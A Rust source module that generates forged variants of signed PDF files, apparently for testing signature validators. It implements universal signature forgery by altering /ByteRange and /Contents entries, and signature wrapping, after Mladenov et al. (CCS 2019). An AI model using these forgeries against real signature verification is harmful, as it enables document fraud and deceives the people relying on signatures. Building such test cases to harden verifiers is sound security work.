//! Later revisions that change the signature dictionary itself (universal forgery and signature
//! wrapping: Mladenov et al., CCS 2019).

use super::text::{find, latest_object, replace, signatures};
use super::{Attack, Tweaks, append_increment};

/// The signature object written again, with one entry changed.
///
/// # Panics
/// When the file has no signature in plain text.
#[must_use]
pub fn signature_attacks(signed: &[u8]) -> Vec<Attack> {
    let spot = signatures(signed).pop().expect("a signed file");
    let object = latest_object(signed, spot.object).expect("found a moment ago");
    let range = [b"[", &signed[spot.byte_range_at.clone()], b"]"].concat();
    let contents = &signed[spot.contents.clone()];
    let append = |name, body: Vec<u8>| Attack {
        name,
        bytes: append_increment(signed, &[(spot.object, 0, body)], &Tweaks::default()),
    };
    let with_range = |name, text: &[u8]| append(name, replace(&object, &range, text));
    let with_contents = |name, text: &[u8]| append(name, replace(&object, contents, text));
    vec![
        append("signature-object-again", object.clone()),
        with_range("usf-byte-range-null", b"null"),
        with_range("usf-byte-range-empty", b"[]"),
        with_range("usf-byte-range-zeros", b"[0 0 0 0]"),
        with_range("usf-byte-range-minus-one", b"[0 -1 0 -1]"),
        with_range("usf-byte-range-two-numbers", b"[0 10]"),
        append("usf-byte-range-missing", replace(&object, b"/ByteRange", b"/ByteRangf")),
        with_contents("usf-contents-null", b"null"),
        with_contents("usf-contents-empty", b"<>"),
        with_contents("usf-contents-zero-byte", b"<00>"),
        append("usf-contents-missing", replace(&object, b"/Contents", b"/Contentz")),
        append("usf-object-null", b"null".to_vec()),
        append(
            "two-byte-ranges",
            replace(&object, b"/ByteRange", b"/ByteRange [0 10 20 10] /ByteRange"),
        ),
        Attack { name: "swa-second-part-moved", bytes: moved(signed, spot.contents.end) },
    ]
}

/// Signature wrapping: the second covered part is moved behind bytes of the attacker's own, and a
/// later signature object with a fitting /ByteRange wants to have them skipped.
fn moved(signed: &[u8], second: usize) -> Vec<u8> {
    let spot = signatures(signed).pop().expect("a signed file");
    let inserted = b"\n4 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n";
    let [zero, before, after, rest] = spot.byte_range;
    let after = after + inserted.len() as u64;
    let mut out = [&signed[..second], inserted.as_slice(), &signed[second..]].concat();
    let width = spot.byte_range_at.len();
    let numbers = format!("{zero} {before} {after} {rest}");
    let at = find(&out, &signed[spot.byte_range_at.clone()], 0).expect("it was there");
    out.splice(at..at + width, format!("{numbers:width$}").bytes());
    out
}
